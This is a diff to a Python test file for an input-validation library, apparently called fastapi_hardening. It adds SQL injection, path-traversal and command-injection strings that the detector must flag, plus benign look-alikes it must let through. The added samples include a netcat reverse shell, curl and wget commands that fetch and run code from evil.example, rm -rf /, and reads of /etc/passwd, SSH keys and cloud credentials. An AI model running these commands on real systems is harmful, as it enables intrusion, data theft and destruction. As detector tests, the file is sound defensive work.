@@ -9,6 +9,7 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from fastapi_hardening.security.input_validation import CLASSES, Inspector, inspector
+from fastapi_hardening.security.input_validation.html import tags
 from fastapi_hardening.security.input_validation.pattern import Pattern
 from fastapi_hardening.security.input_validation.reading import Reading, is_plain, is_plain_json
 
@@ -61,6 +62,10 @@ ATTACKS: dict[str, list[str]] = {
         "if(5=6) select 5 else drop function f--",
         "'+(select top 1 name from t)+'",
         "grant all on db to somebody",
+        "select id,sin(1),2 from bar where",
+        "1+pi() and (3=pi())--",
+        "9 UNION SELECT TOP 10 name,x FROM users",
+        "select current_database();",
         '"x"" or 1=1--"',
     ],
     "xss": [
@@ -119,6 +124,48 @@ ATTACKS: dict[str, list[str]] = {
         "one two ../../../../etc/passwd three",
         "go up and up ../../../../x now",
         "..%c0%af..%c0%afx",
+        "..%c0%9v..%c0%9vx",
+        "..%bg%qf..%bg%qfboot.ini",
+        "......etcpasswd",
+        "..boot.ini",
+        "....windowswin.ini",
+        "........usrlocalx.log",
+        "..a.conf",
+        "c:apachelogsaccess.log",
+        "C:Program FilesApache GroupApachelogsaccess.log",
+        "C|\\boot.ini",
+        "\\\\.\\c:\\boot.ini",
+        "\\\\192.0.2.1\\c$",
+        "\\\\192.0.2.1\\share\\x",
+        "%SYSTEMROOT%\\win.ini",
+        "d:\\AppServ\\MySQL",
+        "c:\\System32\\Inetsrv\\metabase.xml",
+        "c:\\users\\administrator\\desktop",
+        "view-source:file:///etc/passwd",
+        "data://text/plain;base64,eA==",
+        "page=/etc/passwd",
+        "?a=1&file=c:\\windows\\win.ini",
+        "proc/self/environ",
+        "/./etc/passwd",
+        "/./\\/././\\/./etc/passwd",
+        ".\\\\./.\\\\./boot.ini",
+        "/...\\etc/passwd",
+        "~/.ssh/id_rsa",
+        "/home/someone/.bash_history",
+        "members/.htpasswd",
+        "/app/.svn/entries",
+        "/home/x/.aws/credentials",
+        "./WEB-INF/web.xml",
+        "var/log/apache2/access.log",
+        "/usr/local/ftpd/etc/ftpd.conf",
+        "/a/logs/x.log",
+        "/tmp/sess_abc",
+        "/home/x/.kube/config",
+        "/run/secrets/kubernetes.io/token",
+        "winnt/win.ini",
+        "/c02ec02e/c02ec02e/etc/passwd",
+        "/php5/php.ini%00.html",
+        "Li4vZXRjL3Bhc3N3ZA==",
     ],
     "command": [
         ";id",
@@ -159,6 +206,55 @@ ATTACKS: dict[str, list[str]] = {
         "sh -c id;",
         "x;echo",
         "||curl https://evil.example",
+        "^id",
+        "<id;",
+        "192.0.2.1&id",
+        "192.0.2.1\nls",
+        "x'& dir",
+        "x&&id",
+        "ls&&id",
+        "192.0.2.1 | dir",
+        "; ps aux",
+        "|reg query HKLM",
+        ";su -",
+        "& start calc.exe",
+        ";Get-ChildItem",
+        ";mail a@example.com < /etc/passwd",
+        "ls -la",
+        "%x('ls -al /')",
+        'Kernel.exec("ls")',
+        "uname -a",
+        "nslookup evil.example",
+        "ping evil.example",
+        "nc -e /bin/sh 192.0.2.1 4444",
+        "rm -rf /",
+        "wget http://evil.example/x.sh -O /tmp/x.sh",
+        "curl http://evil.example/a | sh",
+        "powershell -nop -w hidden",
+        "cmd.exe /c whoami",
+        "%COMSPEC% /c dir",
+        "certutil -urlcache -f http://evil.example/a a.exe",
+        "net user somebody secret /add",
+        "python3 -c 'import os'",
+        "awk 'BEGIN {system(x)}'",
+        "find . -exec /bin/sh \\; -quit",
+        "c'a't /etc/passwd",
+        "wh''oami",
+        "w^h^o^a^m^i",
+        "c^m^d /c dir",
+        "cat `echo x`",
+        "`id` #",
+        "$0<<<id",
+        "$(</etc/passwd)",
+        ";. /etc/profile",
+        "> /tmp/x",
+        "printf 'id'|sh",
+        "cat ${HOME:0:1}etc",
+        "a=wh;b=oami;$a$b",
+        "while true; do id; done",
+        "for i in 1 2; do id; done",
+        'if "%VAR%"=="a" x',
+        "FOR      %a IN   (set) DO abc",
     ],
     "template": [
         "{{7*7}}",
@@ -258,6 +354,55 @@ How do I use UNION SELECT in SQL?
 prove that 1 = 1 or 2 = 2
 (x or y) and z
 $(document).ready(function(){ })
+config/settings.ini
+src/main/webapp/index.html
+/api/v1/logs
+/usr/bin/python3
+/home/someone/photos/2024/beach.jpg
+C:\\Program Files\\Tea\\tea.exe
+\\\\files\\public\\plan.docx
+page=/products/kettle
+and so on....etc
+wait..what
+....ok
+0..10
+1990..2000
+c:green
+see /etc/passwd in the manual
+META-INF/MANIFEST.MF
+make && make install
+x & y
+name&id
+q=tea&sort&id
+id; name
+key
+name and `id` of the user
+Use `ls`
+"id"
+^_^
+<id>
+Ping me tomorrow
+ping John about the meeting
+curl your hair
+wget and curl are tools
+ls is a command
+powershell scripting for beginners
+nc state university
+Net user growth was 5/10
+find the best -type of tea
+rm -rf is dangerous
+curl https://example.com/docs for more
+python -m venv .venv
+Press cmd /ctrl
+<<<<<<< HEAD
+${x:-default}
+if x == y then z
+color: red; font: bold;
+O'Keefe's and rock'n'roll
+find & replace
+search | find
+Select one from the list where
+the tree; lua scripts
 """.strip().splitlines()
 
 
@@ -437,6 +582,11 @@ def test_work_grows_with_the_length_and_not_faster(piece: str) -> None:
         inspector.inspect("x" + piece * times)
         steps.append(inspector.steps)
     assert steps[1] <= 12 * steps[0]
+
+
+def test_name_of_a_tag_ends_where_the_next_one_begins() -> None:
+    """A tag is never looked through to the end of the text, so that a row of them is read once."""
+    assert [tag[:2] for tag in tags("<a<b<<c</d")] == [("a", False), ("b", False), ("c", False), ("d", True)]
 
 
 def patterns() -> list[tuple[str, Pattern | re.Pattern[str]]]:
